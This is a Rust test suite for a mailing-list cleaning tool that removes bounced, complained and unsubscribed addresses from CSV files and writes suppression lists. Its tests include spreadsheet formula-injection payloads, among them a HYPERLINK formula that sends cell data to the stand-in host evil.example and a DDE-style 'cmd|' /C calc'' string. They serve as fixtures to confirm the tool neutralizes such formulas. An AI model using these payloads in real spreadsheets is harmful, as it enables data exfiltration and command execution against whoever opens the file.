//! Issue 8 acceptance on the fixture lists: untouched lists round-trip byte for
//! byte in every encoding and delimiter; removed rows carry their evidence in the
//! input's encoding; Rebound's own cells are formula-safe; outputs are atomic and
//! never the input.

mod clean_support;

use clean_support::*;
use rebound::clean::{self, ColumnChoice, Options, Outputs, Policy, SuppressionFormat};
use rebound::model::{Channel, Class, Kind, Reason};
use std::path::{Path, PathBuf};

const FIXTURES: &[(&str, u8)] = &[
    ("utf8_lf.csv", b','),
    ("utf8_bom_crlf.csv", b','),
    ("semicolon_1252.csv", b';'),
    ("utf16le_tab.txt", b'\t'),
    ("utf16be_tab.txt", b'\t'),
    ("no_final_newline.csv", b'|'),
    ("headerless.csv", b','),
    ("vi_header.csv", b','),
    ("sms.csv", b','),
];

fn copy_fixture(dir: &Path, name: &str) -> PathBuf {
    let dest = dir.join(name);
    std::fs::copy(fixtures().join(name), &dest).unwrap();
    dest
}

fn bom(b: &[u8]) -> &[u8] {
    match encoding_rs::Encoding::for_bom(b) {
        Some((_, n)) => &b[..n],
        None => &[],
    }
}

const PAYLOAD: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

#[test]
fn an_untouched_list_round_trips_byte_for_byte_in_every_encoding_and_delimiter() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_with(&dir.path().join("db.sqlite"), &[]);
    for (name, delimiter) in FIXTURES {
        let input = copy_fixture(dir.path(), name);
        let original = std::fs::read(&input).unwrap();
        let s = clean::run(&store, &input, &Options::default(), &Outputs::default()).unwrap();
        assert_eq!(s.detection.layout.delimiter, *delimiter, "{name}");
        assert_eq!(s.removed, 0, "{name}");
        let (cleaned, removed) = Outputs::defaults(&input);
        assert_eq!(
            std::fs::read(&cleaned).unwrap(),
            original,
            "{name}: cleaned differs from the input"
        );
        assert_eq!(
            std::fs::read(&input).unwrap(),
            original,
            "{name}: the input changed"
        );
        // removed.csv: just the BOM (if any) and the header with the three added columns.
        let removed_text = decode(&std::fs::read(&removed).unwrap());
        let rows = records(&removed_text, *delimiter);
        assert!(rows.len() <= 1, "{name}: {rows:?}");
        if let Some(h) = rows.first() {
            assert_eq!(
                &h[h.len() - 3..],
                ["rebound_action", "rebound_reason", "rebound_evidence"],
                "{name}"
            );
        }
    }
}

#[test]
fn a_hard_bounced_row_moves_to_removed_with_its_evidence_in_the_input_encoding() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_with(
        &dir.path().join("db.sqlite"),
        &[hard("Hard@Example.com", &format!("550 5.1.1 {PAYLOAD}"))],
    );
    for (name, delimiter) in FIXTURES.iter().filter(|(n, _)| *n != "sms.csv") {
        let input = copy_fixture(dir.path(), name);
        let original = std::fs::read(&input).unwrap();
        let s = clean::run(&store, &input, &Options::default(), &Outputs::default()).unwrap();
        assert_eq!(s.removed, 1, "{name}");
        assert_eq!(s.removed_by_reason.get("hard_bounce"), Some(&1), "{name}");
        let (cleaned, removed) = Outputs::defaults(&input);
        let cleaned_bytes = std::fs::read(&cleaned).unwrap();
        let removed_bytes = std::fs::read(&removed).unwrap();
        // Same encoding as the input: the BOM (or its absence) is kept in both files.
        assert_eq!(bom(&cleaned_bytes), bom(&original), "{name}");
        assert_eq!(bom(&removed_bytes), bom(&original), "{name}");
        let input_rows = records(&decode(&original), *delimiter);
        let kept = records(&decode(&cleaned_bytes), *delimiter);
        let gone = records(&decode(&removed_bytes), *delimiter);
        let hard_row = input_rows
            .iter()
            .find(|r| r.iter().any(|c| c == "hard@example.com"))
            .unwrap();
        assert!(!kept.contains(hard_row), "{name}");
        assert_eq!(kept.len(), input_rows.len() - 1, "{name}");
        let removed_row = gone
            .iter()
            .find(|r| r.iter().any(|c| c == "hard@example.com"))
            .unwrap();
        let n = hard_row.len();
        assert_eq!(
            &removed_row[..n],
            &hard_row[..],
            "{name}: original cells altered"
        );
        assert_eq!(removed_row[n], "removed");
        assert_eq!(removed_row[n + 1], "hard_bounce");
        let ev = &removed_row[n + 2];
        for part in [
            "2024-03-02",
            "Spring sale",
            "spring-2024",
            "user_unknown",
            "550 5.1.1",
            PAYLOAD,
            "bounces.mbox#7",
        ] {
            assert!(ev.contains(part), "{name}: evidence {ev:?} lacks {part:?}");
        }
        assert_no_formula(&removed_row[n..], name);
    }
}

#[test]
fn formula_payloads_in_store_text_come_out_neutralized() {
    let dir = tempfile::tempdir().unwrap();
    // Undated, campaign named with a payload: the cell Rebound writes must still not start a formula.
    let mut e = hard("hard@example.com", PAYLOAD);
    e.occurred_at = None;
    e.campaign = Some(rebound::model::CampaignRef {
        key: "+cmd".into(),
        name: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
    });
    let store = store_with(&dir.path().join("db.sqlite"), &[e]);
    let input = copy_fixture(dir.path(), "utf8_lf.csv");
    let supp = dir.path().join("mg.csv");
    clean::run(
        &store,
        &input,
        &Options::default(),
        &Outputs {
            suppressions: vec![(SuppressionFormat::Mailgun, supp.clone())],
            ..Default::default()
        },
    )
    .unwrap();
    let removed = std::fs::read_to_string(Outputs::defaults(&input).1).unwrap();
    let rows = records(&removed, b',');
    let row = &rows[1];
    assert_no_formula(&row[4..], "removed list");
    assert!(row[6].contains(PAYLOAD));
    for r in records(&std::fs::read_to_string(&supp).unwrap(), b',') {
        assert_no_formula(&r, "suppression list");
    }
}

#[test]
fn complaints_unsubscribes_and_repeated_soft_bounces_follow_the_policy() {
    let dir = tempfile::tempdir().unwrap();
    let day = 86_400;
    let t0 = 1_709_251_200; // 2024-03-01
    let mut events = vec![
        event(
            "complaint@example.net",
            Kind::Complaint,
            Class::Complaint,
            Reason::Complaint,
            Some(t0),
        ),
        event(
            "ana.lopez@example.com",
            Kind::Bounce,
            Class::Block,
            Reason::Blocked,
            Some(t0),
        ),
    ];
    for (i, d) in [0, 4, 9].iter().enumerate() {
        let mut e = event(
            "soft@example.com",
            Kind::Bounce,
            Class::Soft,
            Reason::MailboxFull,
            Some(t0 + d * day + i as i64),
        );
        e.diagnostic = Some(format!("452 4.2.2 mailbox full {i}"));
        events.push(e);
    }
    let store = store_with(&dir.path().join("db.sqlite"), &events);
    let input = copy_fixture(dir.path(), "utf8_bom_crlf.csv");
    let s = clean::preview(&store, &input, &Options::default()).unwrap();
    assert_eq!(s.removed_by_reason.get("complaint"), Some(&1));
    assert_eq!(s.removed_by_reason.get("repeated_soft_bounce"), Some(&1));
    assert_eq!(s.flagged_by_reason.get("blocked"), Some(&1));
    assert_eq!((s.rows, s.kept, s.removed), (4, 2, 2));
    let soft = s
        .removed_rows
        .iter()
        .find(|r| r.address == "soft@example.com")
        .unwrap();
    assert!(
        soft.findings[0]
            .evidence
            .starts_with("soft bounces on 3 days from 2024-03-01 to 2024-03-10"),
        "{}",
        soft.findings[0].evidence
    );
    // Preview wrote nothing.
    assert_eq!(
        std::fs::read_dir(dir.path())
            .unwrap()
            .filter(|e| e
                .as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "csv"))
            .count(),
        1
    );
    // Stricter window: the soft bounces no longer count; remove_blocked removes the blocked one.
    let mut policy = Policy::default();
    policy.apply("soft_window_days=7").unwrap();
    policy.apply("remove_blocked=true").unwrap();
    let s = clean::preview(
        &store,
        &input,
        &Options {
            policy,
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(s.removed_by_reason.get("repeated_soft_bounce"), None);
    assert_eq!(s.removed_by_reason.get("blocked"), Some(&1));
}

#[test]
fn sms_lists_match_phones_in_e164() {
    let dir = tempfile::tempdir().unwrap();
    let mut e = event(
        "+12025550102",
        Kind::Bounce,
        Class::Hard,
        Reason::SmsInvalidNumber,
        Some(1_709_367_300),
    );
    e.channel = Channel::Sms;
    let store = store_with(&dir.path().join("db.sqlite"), &[e]);
    let input = copy_fixture(dir.path(), "sms.csv");
    let plain = dir.path().join("stop.txt");
    let s = clean::run(
        &store,
        &input,
        &Options::default(),
        &Outputs {
            suppressions: vec![(SuppressionFormat::Plain, plain.clone())],
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(s.detection.phone.as_ref().map(|g| g.index), Some(1));
    assert_eq!(s.removed_by_reason.get("sms_invalid"), Some(&1));
    assert_eq!(std::fs::read_to_string(&plain).unwrap(), "+12025550102\r\n");
}

#[test]
fn column_overrides_headers_and_output_safety() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_with(
        &dir.path().join("db.sqlite"),
        &[hard("hard@example.com", "550 no such user")],
    );
    let input = copy_fixture(dir.path(), "headerless.csv");
    let d = clean::detect(&input, &Options::default()).unwrap();
    assert!(!d.layout.has_header);
    assert_eq!(d.email.as_ref().map(|g| g.index), Some(0));
    // Pointing at the name column finds no bounce.
    let opts = Options {
        email_column: Some(ColumnChoice::parse("2")),
        ..Default::default()
    };
    assert_eq!(clean::preview(&store, &input, &opts).unwrap().removed, 0);
    // Never overwrite the input, under any spelling of its path.
    let same = dir.path().join(".").join("headerless.csv");
    let err = clean::run(
        &store,
        &input,
        &Options::default(),
        &Outputs {
            cleaned: Some(same),
            ..Default::default()
        },
    )
    .unwrap_err();
    assert_eq!(err.code(), "invalid");
    let err = clean::run(
        &store,
        &input,
        &Options::default(),
        &Outputs {
            removed: Some(input.clone()),
            ..Default::default()
        },
    )
    .unwrap_err();
    assert_eq!(err.code(), "invalid");
    assert_eq!(
        std::fs::read(&input).unwrap(),
        std::fs::read(fixtures().join("headerless.csv")).unwrap()
    );
    // No stray temporary files after a refusal or a run.
    let out = dir.path().join("out.csv");
    clean::run(
        &store,
        &input,
        &Options::default(),
        &Outputs {
            cleaned: Some(out.clone()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        "ana.lopez@example.com,Ana\r\n"
    );
    assert!(std::fs::read_dir(dir.path()).unwrap().all(|e| !e
        .unwrap()
        .file_name()
        .to_string_lossy()
        .ends_with(".tmp")));
    // A list with no address column at all is refused with a way out.
    let junk = dir.path().join("junk.csv");
    std::fs::write(&junk, "a,b\n1,2\n").unwrap();
    let err = clean::preview(&store, &junk, &Options::default()).unwrap_err();
    assert!(err.to_string().contains("--email-column"), "{err}");
}

#[test]
fn the_cli_prints_a_summary_and_dry_run_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite");
    drop(store_with(
        &db,
        &[hard("hard@example.com", "550 no such user")],
    ));
    let input = copy_fixture(dir.path(), "semicolon_1252.csv");
    let bin = env!("CARGO_BIN_EXE_rebound");
    let out = std::process::Command::new(bin)
        .args([
            "--db",
            db.to_str().unwrap(),
            "clean",
            input.to_str().unwrap(),
            "--dry-run",
            "--policy",
            "remove_invalid=true",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("hard_bounce")
            && stdout.contains("Windows-1252")
            && stdout.contains("Correo electrónico"),
        "{stdout}"
    );
    let others: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with("db.sqlite"))
        .collect();
    assert_eq!(others, ["semicolon_1252.csv"], "--dry-run wrote files");
    let out = std::process::Command::new(bin)
        .args([
            "--db",
            db.to_str().unwrap(),
            "clean",
            input.to_str().unwrap(),
            "--policy",
            "nonsense=1",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn flags_stay_unless_the_policy_removes_them_and_every_suppression_layout_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_with(
        &dir.path().join("db.sqlite"),
        &[
            hard("hard@example.com", "550 5.1.1 no such user"),
            event(
                "info@example.org",
                Kind::Unsubscribe,
                Class::Unsubscribe,
                Reason::Unsubscribe,
                None,
            ),
        ],
    );
    let input = copy_fixture(dir.path(), "utf8_lf.csv");
    let s = clean::preview(&store, &input, &Options::default()).unwrap();
    assert_eq!((s.rows, s.kept, s.removed), (5, 3, 2));
    assert_eq!(s.flagged_by_reason.get("domain_typo"), Some(&1));
    assert_eq!(s.flagged_by_reason.get("duplicate"), Some(&1));
    let typo = s
        .flagged_rows
        .iter()
        .find(|r| r.address == "bob@gmial.com")
        .unwrap();
    assert_eq!(typo.findings[0].evidence, "did you mean bob@gmail.com?");
    // The first occurrence stays, the later one goes.
    let mut policy = Policy::default();
    for p in ["remove_duplicates=true", "remove_typos=true"] {
        policy.apply(p).unwrap();
    }
    let formats = [
        "plain",
        "mailchimp",
        "sendgrid",
        "mailgun",
        "mailgun-bounces",
        "mailgun-unsubscribes",
        "mailgun-complaints",
        "brevo",
        "klaviyo",
    ];
    let suppressions: Vec<_> = formats
        .iter()
        .map(|f| {
            (
                SuppressionFormat::parse(f).unwrap(),
                dir.path().join(format!("{f}.csv")),
            )
        })
        .collect();
    let s = clean::run(
        &store,
        &input,
        &Options {
            policy,
            ..Default::default()
        },
        &Outputs {
            suppressions,
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(s.removed_by_reason.get("duplicate"), Some(&1));
    assert_eq!(s.removed_by_reason.get("domain_typo"), Some(&1));
    let cleaned = std::fs::read_to_string(Outputs::defaults(&input).0).unwrap();
    assert!(
        cleaned.contains("ana.lopez@example.com,Ana") && !cleaned.contains("ANA.LOPEZ"),
        "{cleaned}"
    );
    let read = |f: &str| std::fs::read_to_string(dir.path().join(format!("{f}.csv"))).unwrap();
    // Duplicates are not suppressed (their first row stays on the list); the others are, once each.
    assert_eq!(
        read("plain"),
        "hard@example.com\r\ninfo@example.org\r\nbob@gmial.com\r\n"
    );
    assert_eq!(read("mailchimp").lines().next(), Some("Email Address"));
    assert_eq!(read("sendgrid").lines().next(), Some("email"));
    assert_eq!(read("brevo").lines().next(), Some("EMAIL"));
    assert_eq!(read("klaviyo").lines().next(), Some("Email"));
    assert_eq!(read("mailgun").lines().count(), 4);
    assert_eq!(read("mailgun-bounces").lines().count(), 3);
    assert!(
        read("mailgun-unsubscribes").starts_with("address,tag,created_at\r\ninfo@example.org,*,")
    );
    assert_eq!(read("mailgun-complaints"), "address,created_at\r\n");
}

#[test]
fn the_saved_policy_is_the_default_next_time() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite");
    drop(store_with(&db, &[]));
    let input = copy_fixture(dir.path(), "utf8_lf.csv");
    let bin = env!("CARGO_BIN_EXE_rebound");
    let run = |extra: &[&str]| {
        let mut args = vec![
            "--db",
            db.to_str().unwrap(),
            "clean",
            input.to_str().unwrap(),
            "--dry-run",
            "--json",
        ];
        args.extend_from_slice(extra);
        let out = std::process::Command::new(bin)
            .args(&args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    assert_eq!(run(&[])["removed"], 0);
    assert_eq!(
        run(&["--policy", "remove_role=true", "--save-policy"])["removed"],
        1
    );
    let again = run(&[]);
    assert_eq!(again["removed_by_reason"]["role_account"], 1);
    assert!(again["policy"]
        .as_array()
        .unwrap()
        .iter()
        .any(|l| l["key"] == "remove_role" && l["value"] == "true"));
}
